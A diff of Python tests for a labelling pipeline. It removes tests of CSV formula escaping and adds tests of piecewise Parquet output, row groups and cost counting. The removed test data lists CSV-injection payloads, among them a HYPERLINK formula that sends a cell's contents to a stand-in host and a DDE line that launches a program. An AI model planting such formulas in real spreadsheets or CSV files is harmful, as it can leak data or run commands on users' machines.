@@ -1,93 +1,81 @@
-"""Cells that a spreadsheet would run are harmless in a CSV where the job asks for it, and only there."""
+"""The final table is written piece by piece, and is as if it had been written at once."""
 
-import csv
-from collections.abc import Iterator
 from pathlib import Path
 
 import polars as pl
+import pyarrow.parquet as pq
 import pytest
-
-from tests.conftest import Emulator, Project, emulating
-
-FORMULAS = [
-    '=HYPERLINK("http://x.test?"&A1,"open")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1,1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "\x00=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠x",
-    "\tx",
-]
-HARMLESS = ["a=b", "'=1", "1-2", "x@y.test", '"=1"', "", " ", "\u200b", "[-1]", "é"]
-SCHEMA = """
-from typing import Literal
 from pydantic import BaseModel
 
-class Label(BaseModel):
-    label: Literal["=positive", "-negative"]
-    parts: list[str]
-"""
+from pipeline.arrow import Layout
+from pipeline.errors import ChangedError
+from pipeline.flow import Outcome, Spent, Usage
+from pipeline.output import GROUP, Written, count, write_output
+from pipeline.parts import Parts
+from pipeline.source import Source, open_source
+from pipeline.standing import Standing, stand
+
+TEXTS = ["a", "b", "c"]
 
 
-@pytest.fixture(scope="module")
-def emulator() -> Iterator[Emulator]:
-    """Return an emulator without quotas."""
-    with emulating() as running:
-        yield running
+class Answer(BaseModel):
+    """The least there is."""
+
+    label: str
 
 
-def run(project: Project, emulator: Emulator, ending: str, *, escape: bool) -> Path:
-    """Run a job whose cells and names are formulas, and return the output."""
-    texts = [*FORMULAS, *HARMLESS]
-    frame = pl.DataFrame(
-        {"id": range(len(texts)), "=text": texts, "n": [-n for n in range(len(texts))], "'=text": "x"}
-    )
-    frame.write_parquet(project.folder / "rows.parquet")
-    project.change("rows.csv", "rows.parquet")
-    project.change("{{ text }}", "{{ row['=text'] }}")
-    project.change('labels.parquet"', f'labels.{ending}"\nescape_formulas = {str(escape).lower()}')
-    (project.folder / "schemas" / "label.py").write_text(SCHEMA)
-    assert project.run(emulator.address).exit_code == 0
-    return project.output.with_suffix(f".{ending}")
+LAYOUT = Layout(Answer)
 
 
-def cells(path: Path) -> list[list[str]]:
-    """Return a CSV as Python's own reader sees it."""
-    with path.open(encoding="utf-8", newline="") as file:
-        return list(csv.reader(file))
+def opened(folder: Path, rows: int) -> Source:
+    """Return an input of so many rows, which have three texts in turn."""
+    path = folder / "rows.parquet"
+    pl.DataFrame({"id": range(rows)}).with_columns(
+        text=pl.Series(TEXTS).gather(pl.int_range(rows, eager=True) % 3)
+    ).write_parquet(path)
+    return open_source(path, key=[], used=["text"])
 
 
-def test_formulas_are_escaped_in_csv_when_asked(project: Project, emulator: Emulator) -> None:
-    """Texts, labels and names get a quote; numbers and harmless texts stay what they are."""
-    header, *rows = cells(run(project, emulator, "csv", escape=True))
-    assert header[:6] == ["id", "'=text", "n", "'=text", "label", "parts"]
-    assert [row[1] for row in rows] == [*("'" + text for text in FORMULAS), *HARMLESS]
-    assert [row[2] for row in rows] == ["0", *(f"-{n}" for n in range(1, len(rows)))]
-    assert {row[4] for row in rows} <= {"'=positive", "'-negative"}
-    assert all(row[5].startswith("[") for row in rows)
+def answered(source: Source, folder: Path, texts: int) -> tuple[Parts, Standing]:
+    """Answer some of the texts, in a part each."""
+    survey = source.survey()
+    (folder / "parts").mkdir()
+    parts = Parts(folder / "parts", LAYOUT.part)
+    first = next(source.tables())
+    spent = Spent(Usage(prompt=3, output=1, total=4), 0.5)
+    for number in reversed(range(texts)):
+        key = first.keys[number]
+        parts.write(LAYOUT.table([Outcome(key, key, Answer(label=TEXTS[number].upper()), spent)]))
+    return parts, stand(survey, parts.index())
 
 
-def test_no_cell_is_touched_unless_asked(project: Project, emulator: Emulator) -> None:
-    """Programs that read the CSV get the cells as they are."""
-    header, *rows = cells(run(project, emulator, "csv", escape=False))
-    assert header[1] == "=text"
-    assert [row[1] for row in rows] == [*FORMULAS, *HARMLESS]
+def test_row_groups_are_larger_than_chunks(tmp_path: Path) -> None:
+    """Every row has its answer over several groups, and only the first of equal rows carries its cost."""
+    rows, target = 2 * GROUP + 7, tmp_path / "out.parquet"
+    source = opened(tmp_path, rows)
+    parts, standing = answered(source, tmp_path, 3)
+    written = write_output(source, parts, standing, LAYOUT, target)
+    assert pq.read_metadata(target).num_row_groups == 3
+    frame = pl.read_parquet(target)
+    assert frame["id"].to_list() == list(range(rows))
+    assert (frame["label"] == frame["text"].str.to_uppercase()).all()
+    assert frame["_cost_usd"].to_list()[:4] == [0.5, 0.5, 0.5, 0.0]
+    assert (written.ok, written.shared, written.cost_usd, written.prompt_tokens) == (rows, rows - 3, 1.5, 9)
 
 
-@pytest.mark.parametrize("ending", ["parquet", "ndjson"])
-def test_other_formats_are_never_escaped(project: Project, emulator: Emulator, ending: str) -> None:
-    """Nothing runs them."""
-    path = run(project, emulator, ending, escape=True)
-    table = pl.read_parquet(path) if ending == "parquet" else pl.read_ndjson(path)
-    assert table["=text"].to_list() == [*FORMULAS, *HARMLESS]
-    assert set(table["label"].cast(pl.String)) <= {"=positive", "-negative"}
+def test_what_is_there_is_counted_before_all_is(tmp_path: Path) -> None:
+    """An answer counts once, however many rows have it."""
+    source = opened(tmp_path, 12)
+    parts, standing = answered(source, tmp_path, 2)
+    expected = Written(ok=2, prompt_tokens=6, output_tokens=2, cost_usd=1.0, sources={"api"})
+    assert count(parts, standing) == expected
+
+
+def test_a_row_without_answer_stops_the_output(tmp_path: Path) -> None:
+    """The old table stays."""
+    source, target = opened(tmp_path, 12), tmp_path / "out.csv"
+    parts, standing = answered(source, tmp_path, 2)
+    target.write_text("old")
+    with pytest.raises(ChangedError):
+        write_output(source, parts, standing, LAYOUT, target)
+    assert target.read_text() == "old"
